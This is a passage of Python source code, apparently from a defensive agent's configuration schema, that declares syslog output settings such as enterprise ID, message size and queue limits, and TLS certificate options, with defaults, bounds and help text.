        "outputs.syslog",
        "enterprise_id",
        "int",
        32473,
        "The number after `defender@` in the structured data's SD-ID: your organisation's "
        "IANA Private Enterprise Number; the default is RFC 5612's documentation number.",
        min=1,
        max=2147483647,
    ),
    _format("outputs.syslog"),
    Key(
        "outputs.syslog",
        "alerts_only",
        "bool",
        False,
        "Send only alerts, not events, heartbeats and statistics.",
    ),
    Key(
        "outputs.syslog",
        "max_message",
        "int",
        8192,
        "Bytes of one message at most (RFC 5425 receivers take 8192; rsyslog's default "
        "maxMessageSize is 8 KiB); a longer MSG is cut and counted as truncated.",
        min=480,
        max=65000,
        unit="bytes",
    ),
    Key(
        "outputs.syslog",
        "queue_max",
        "int",
        1000,
        "Records kept while the collector cannot be reached; the oldest is dropped (and "
        "counted) beyond this or `queue_bytes`.",
        min=1,
        max=1000000,
    ),
    Key(
        "outputs.syslog",
        "queue_bytes",
        "int",
        1048576,
        "Bytes of messages kept while the collector cannot be reached.",
        min=65536,
        max=1 << 30,
        unit="bytes",
    ),
    Key(
        "outputs.syslog",
        "tls_ca",
        "str",
        "",
        "tls: PEM file of the CAs that sign the collector's certificate; empty = the "
        "system's store. The certificate must name `tls_server_name`.",
    ),
    Key(
        "outputs.syslog",
        "tls_server_name",
        "str",
        "",
        "tls: the name the collector's certificate must carry; empty = `address`.",
    ),
    Key(
        "outputs.syslog",
        "tls_cert",
        "str",
        "",
        "tls: PEM file of the agent's client certificate (and its key, unless `tls_key`); "
        "empty = none.",
    ),
    Key("outputs.syslog", "tls_key", "str", "", "tls: PEM file of the client certificate's key."),
)

SECTIONS: tuple[str, ...] = tuple(dict.fromkeys(k.section for k in SCHEMA))
